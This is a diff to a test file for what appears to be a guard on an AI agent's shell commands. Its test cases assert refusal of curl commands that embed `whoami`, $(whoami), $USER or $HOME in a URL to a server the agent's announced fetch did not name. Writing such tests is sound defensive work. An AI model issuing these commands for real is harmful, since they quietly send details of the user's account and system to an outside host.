@@ -152,6 +152,9 @@ def test_an_announced_fetch_carries_no_substitution_to_an_unnamed_server() -> No
     _refused("Let me fetch the status page.",
              'curl -s "https://api.acme.example/status?x=`whoami`"')
     _refused("Let me fetch the status page.", 'curl -s "https://api.acme.example/$(whoami)/status"')
+    # a variable's value is sent the same way, and no other rule reads it (no command runs)
+    _refused("Let me fetch the status page.", 'curl -s "https://api.acme.example/$USER/status"')
+    _refused("Let me fetch the status page.", "curl -s https://api.acme.example/status/$HOME")
 
 
 # -- the lines a here-document feeds a reader are text -----------------------------------------
